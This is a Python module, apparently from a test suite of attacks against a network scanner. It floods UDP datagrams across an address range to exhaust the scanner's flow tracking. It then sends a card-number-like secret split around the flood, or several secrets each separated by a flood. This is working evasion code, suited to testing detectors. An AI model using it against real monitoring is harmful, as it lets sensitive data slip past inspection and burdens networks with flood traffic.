"""A flood of flows, to make a scanner forget what it knows of one.

`way`: `tail` (between two halves of a value), `block` (between a datagram that blocks its flow,
and one of the same flow that nothing but that block stops: the secret `after`).
"""

from __future__ import annotations

import ipaddress
import itertools
import socket
import time

from attacks.target import DISCARD, Target, refused

PER_SOCKET = 50_000
SETTLE = 0.1


def main(target: Target) -> None:
    """Send, flood, send."""
    if target.args["way"] == "tail":
        value, half = target.secret, len(target.secret) // 2
        with target.tcp(timeout=5) as out, refused():
            out.sendall(b"order 17, card " + value[:half])
            time.sleep(SETTLE)
            flood(target)
            out.sendall(value[half:] + b", thanks\n")
            time.sleep(0.4)
        return
    with socket.socket(target.af, socket.SOCK_DGRAM) as out:
        out.connect((target.address, target.port))
        for number, secret in enumerate(target.secrets.values()):
            if number:
                flood(target)
            with refused():
                out.send(b"order 17, card " + secret.encode() + b", thanks\n")
            time.sleep(SETTLE)


def flood(target: Target) -> None:
    """A datagram to each of many addresses, from as many ports as it takes."""
    network = ipaddress.IPv4Network(target.flooded)
    left = target.flows
    while left > 0:
        count = min(left, PER_SOCKET)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            for address in itertools.islice(network.hosts(), count):
                with refused():
                    out.sendto(b"a clean datagram of one more flow", (str(address), DISCARD))
        left -= count
